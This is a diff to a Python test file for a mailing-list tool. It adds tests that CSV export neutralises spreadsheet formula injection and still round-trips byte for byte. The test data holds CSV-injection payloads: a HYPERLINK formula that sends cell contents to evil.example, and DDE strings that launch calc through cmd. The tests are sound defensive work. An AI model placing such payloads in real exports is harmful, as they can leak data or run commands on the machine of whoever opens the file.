@@ -2,13 +2,14 @@
 
 from __future__ import annotations
 
+import csv
 from pathlib import Path
 
 import pytest
 
 from composer.errors import SubscriberFileError
-from composer.store import SubscriberStore
-from composer.store.csvio import RejectedRow, export_csv, import_csv
+from composer.store import NewSubscriber, SubscriberStore, address_key
+from composer.store.csvio import FORMULA_STARTS, RejectedRow, export_csv, import_csv
 from composer.store.membership import remove_subscriber
 from composer.store.sqlite import SqliteSubscriberStore
 from tests.conftest import write_csv
@@ -97,6 +98,71 @@ def test_export_round_trips_through_a_fresh_database(tmp_path: Path) -> None:
         carol = second.get("carol@example.net")
     assert (tmp_path / "two.csv").read_text() == (tmp_path / "one.csv").read_text()
     assert carol is not None and carol.status == "unsubscribed"
+
+
+# Names (and one address, one tag, one reason) a spreadsheet would run as a formula, and
+# names that really start with a quote, which the export's quote must not be confused with.
+HOSTILE = {
+    "a@example.com": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "b@example.com": "+1+cmd|' /C calc'!A0",
+    "c@example.com": "-2+3",
+    "d@example.com": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "e@example.com": "\tTabbed",
+    "f@example.com": "\r=Returned",
+    "g@example.com": "'Tis the season",
+    "h@example.com": "'=already quoted",
+    "i@example.com": "''",
+    "-j@example.com": "Plain",
+}
+
+
+def save_hostile(store: SubscriberStore) -> None:
+    for email, name in HOSTILE.items():
+        key = address_key(email)
+        store.save(NewSubscriber(email, key, name, tags=("=tag",), status_reason="+by hand"))
+    store.mark_status("a@example.com", "unsubscribed", "-reason given by the reader")
+
+
+def test_export_puts_a_quote_before_cells_a_spreadsheet_would_run(tmp_path: Path) -> None:
+    with SqliteSubscriberStore(tmp_path / "one.db") as store:
+        save_hostile(store)
+        export_csv(store, tmp_path / "out.csv")
+    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as file:
+        rows = list(csv.reader(file))[1:]
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
+    names = {row[0]: row[1] for row in rows}
+    assert names["'-j@example.com"] == "Plain"
+    assert names["a@example.com"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    assert names["e@example.com"] == "'\tTabbed"
+    assert names["g@example.com"] == "''Tis the season"
+    assert rows[0][3] == "'=tag" and rows[0][6] == "'-reason given by the reader"
+    assert rows[1][6] == "'+by hand"
+
+
+def test_export_with_formula_like_and_quoted_cells_round_trips_byte_for_byte(
+    tmp_path: Path,
+) -> None:
+    with SqliteSubscriberStore(tmp_path / "one.db") as first:
+        save_hostile(first)
+        export_csv(first, tmp_path / "one.csv")
+    with SqliteSubscriberStore(tmp_path / "two.db") as second:
+        report = import_csv(tmp_path / "one.csv", second)
+        assert report.rejected == () and report.counts.added == len(HOSTILE)
+        export_csv(second, tmp_path / "two.csv")
+        imported = {s.email: (s.name, s.tags) for s in second.iter_all()}
+        reason = second.get("a@example.com")
+    assert (tmp_path / "two.csv").read_bytes() == (tmp_path / "one.csv").read_bytes()
+    assert imported == {email: (name, ("=tag",)) for email, name in HOSTILE.items()}
+    assert reason is not None and reason.status_reason == "-reason given by the reader"
+
+
+def test_a_hand_written_name_starting_with_a_quote_is_imported_as_written(
+    tmp_path: Path, store: SubscriberStore
+) -> None:
+    import_csv(write_csv(tmp_path / "l.csv", "email,name\nann@example.com,'Tis Ann\n"), store)
+    ann = store.get("ann@example.com")
+    assert ann is not None and ann.name == "'Tis Ann"
 
 
 def test_unknown_columns_are_named_and_ignored(tmp_path: Path, store: SubscriberStore) -> None:
